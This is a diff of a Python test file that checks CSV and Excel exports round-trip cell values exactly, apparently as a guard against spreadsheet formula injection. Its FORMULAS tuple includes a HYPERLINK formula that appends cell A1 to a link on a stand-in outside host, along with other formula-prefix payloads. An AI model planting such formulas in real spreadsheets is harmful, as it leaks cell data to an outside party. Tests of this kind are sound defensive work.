@@ -16,6 +16,7 @@ from annotator.domain.evidence import EvidenceForm
 from annotator.domain.incoming import Input
 from annotator.domain.sheets.unit_rows import HEADS, as_written, cells, harmless, unit_rows
 from annotator.formats import unit_csv, unit_xlsx
+from annotator.intake.tables import reading
 from annotator.storage import dossiers
 
 FORMULAS = ('=HYPERLINK("https://far.example/"&A1)', "+1+1", "-2+3", "@SUM(A1)", "'=1", "＝1+1", "- a list", "'' twice")
@@ -89,6 +90,15 @@ def test_excel_holds_what_csv_holds_and_twice_the_same_bytes(dossier):
     texts, _ = in_excel(unit_xlsx.write(made))
     assert {cell for row in unit_rows(made) for cell in cells(row) if cell} <= set(texts)
     assert unit_xlsx.write(made) == unit_xlsx.write(made)
+
+
+def test_what_is_written_is_read_back_cell_by_cell(dossier):
+    known = dossier()
+    for words in (*FORMULAS, "two\nlines\ttabbed", "_x0041_", "\ufeff", " '=x "):
+        made = noted(known, words)
+        for write in (unit_csv.write, unit_xlsx.write):
+            read = [row.cells for row in reading.read(write(made)).rows]
+            assert read == [tuple(HEADS.values()), *map(cells, unit_rows(made))]
 
 
 def test_a_cell_that_is_too_long_for_excel_is_cut_and_stays_whole_in_csv(dossier):
